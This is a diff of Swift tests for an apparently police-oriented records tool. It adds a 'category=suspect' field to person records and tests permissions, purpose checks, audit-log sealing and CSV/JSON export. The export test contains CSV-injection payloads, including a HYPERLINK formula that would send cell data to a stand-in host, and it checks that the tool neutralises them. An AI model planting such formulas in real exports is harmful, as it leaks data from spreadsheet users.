@@ -54,7 +54,7 @@ enum OSAccountName {
         let text = try String(contentsOfFile: keyPath, encoding: .utf8)
         #expect(text.hasPrefix("pccc-audit-key 1\nsince 1\nkey "), "a new node seals its whole log: \(text.prefix(30))")
         #expect(try FileManager.default.attributesOfItem(atPath: keyPath)[.posixPermissions] as? Int == 0o600)
-        _ = try node.succeed(["record", "add", "person", "--group", "region", "--set", "family_name=Hoxha"])
+        _ = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"])
         #expect(try node.succeed(["audit", "verify"]).hasPrefix("audit log intact: 2 entries"))
         // Without its key the node cannot vouch for what the key sealed: it does not open
         // rather than make a new key that would take a rewritten log for intact.
@@ -69,7 +69,7 @@ enum OSAccountName {
     @Test func initMakesTheFirstAdminAndOnlyKnownUsersInTheirRolesAct() throws {
         let node = try Node()
         #expect(
-            try node.refusal(["record", "add", "person", "--group", "region", "--set", "family_name=Hoxha"], as: "mallory")
+            try node.refusal(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"], as: "mallory")
                 == "Error: the OS account mallory is not mapped to a user of node mk-tabanovce; an admin maps it with pccc users map-account mallory --to USER"
         )
         #expect(try node.succeed(["record", "list", "--json"]) == "[\n\n]")
@@ -85,7 +85,7 @@ enum OSAccountName {
         #expect(try node.refusal(["users", "add", "carl", "--role", "staff"], as: "bob") == staffOnly)
         #expect(try node.refusal(["audit", "list"], as: "bob") == staffOnly)
         #expect(try node.refusal(["audit", "verify"], as: "bob") == staffOnly)
-        let id = try node.succeed(["record", "add", "person", "--group", "region", "--set", "family_name=Hoxha"], as: "bob")
+        let id = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"], as: "bob")
         let users = try node.succeed(["users", "list"], as: "bob")
         #expect(users.contains("ana  admin") && users.contains("bob  staff"))
         let note = try node.succeed(["note", "add", id, "--text", "seen at the border"], as: "bob")
@@ -115,7 +115,7 @@ enum OSAccountName {
             try node.refusal(["users", "map-account", own, "--to", "bob"])
                 == "Error: the OS account \(own) is mapped to ana; unmap it first with pccc users unmap-account \(own)")
         #expect(try node.succeed(["users", "map-account", "bob", "--to", "bob"]) == "mapped OS account bob to bob at node mk-tabanovce")
-        let id = try node.succeed(["record", "add", "person", "--group", "region", "--set", "family_name=Hoxha"], as: "bob")
+        let id = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"], as: "bob")
         #expect(
             try node.refusal(["users", "map-account", "mallory", "--to", "ana"], as: "bob")
                 == "Error: bob is staff at node mk-tabanovce, and only an admin may do this")
@@ -154,7 +154,7 @@ enum OSAccountName {
     @Test func consultationsNeedThePurposeTheAdminsRuleAsks() throws {
         let node = try Node()
         _ = try node.succeed(["users", "add", "bob", "--role", "staff", "--os-account", "bob"])
-        let id = try node.succeed(["record", "add", "person", "--group", "region", "--set", "family_name=Hoxha"], as: "bob")
+        let id = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"], as: "bob")
         #expect(try node.succeed(["purposes", "show"], as: "bob") == "purpose: free-text")
         let unexplained = try PCCCExecutable.run(["record", "show", id, "--data", node.data], environment: PCCCExecutable.sudo(for: "bob"))
         #expect(unexplained.status != 0 && unexplained.output.isEmpty, "record show printed a record without a purpose: \(unexplained.output)")
@@ -189,8 +189,10 @@ enum OSAccountName {
 
     @Test func listFiltersAndRefusesFiltersThatCannotMatch() throws {
         let node = try Node()
-        let wanted = try node.succeed(["record", "add", "person", "--group", "region", "--set", "family_name=Hoxha", "--set", "alert=wanted"])
-        let other = try node.succeed(["record", "add", "person", "--group", "mk-rs", "--set", "family_name=Petrović"])
+        let wanted = try node.succeed([
+            "record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha", "--set", "alert=wanted",
+        ])
+        let other = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "mk-rs", "--set", "family_name=Petrović"])
         let car = try node.succeed(["record", "add", "vehicle", "--group", "region", "--set", "plate=SK 123 AB", "--set", "alert=stolen"])
         func listed(_ filters: [String]) throws -> [String] {
             let output = try node.succeed(["record", "list", "--json"] + filters)
@@ -228,16 +230,19 @@ enum OSAccountName {
 
     @Test func exportWritesEveryRecordOfTheGroupAsCSVOrJSONAndIsAudited() throws {
         let node = try Node()
-        let tricky = try node.succeed(["record", "add", "person", "--group", "region", "--set", "family_name=O\"Brien, Jr", "--set", "aliases=a\nb"])
+        let tricky = try node.succeed([
+            "record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=O\"Brien, Jr", "--set", "aliases=a\nb",
+        ])
         let plain = try node.succeed(["record", "add", "vehicle", "--group", "region", "--set", "plate=SK 123 AB"])
-        _ = try node.succeed(["record", "add", "person", "--group", "mk-rs", "--set", "family_name=Elsewhere"])
+        _ = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "mk-rs", "--set", "family_name=Elsewhere"])
         // Cells a spreadsheet would evaluate (OWASP's CSV injection).
         let formulas = [
             "family_name": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")", "given_name": "+1+1", "birth_place": "@SUM(A1:A9)",
             "reason": "-2+3",
         ]
         let formulaRecord = try node.succeed(
-            ["record", "add", "person", "--group", "region"] + formulas.sorted(by: { $0.key < $1.key }).flatMap { ["--set", "\($0.key)=\($0.value)"] })
+            ["record", "add", "person", "--set", "category=suspect", "--group", "region"]
+                + formulas.sorted(by: { $0.key < $1.key }).flatMap { ["--set", "\($0.key)=\($0.value)"] })
         let csv = try node.succeed(["record", "export", "--group", "region", "--format", "csv"])
         #expect(csv.contains("\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\""), "a formula is written as text")
         for text in ["'+1+1", "'@SUM(A1:A9)", "'-2+3"] {
@@ -282,7 +287,7 @@ enum OSAccountName {
 
     @Test func auditVerifyNamesTheEditedEntryAndExitsNonZero() throws {
         let node = try Node()
-        let id = try node.succeed(["record", "add", "person", "--group", "region", "--set", "family_name=Krasniqi"])
+        let id = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Krasniqi"])
         _ = try node.succeed(["record", "show", id, "--purpose", "check at gate 3"])
         _ = try node.succeed(["search", "krasniqi"])
         #expect(try node.succeed(["audit", "verify"]) == "audit log intact: 4 entries, each sealed and chained to the one before")
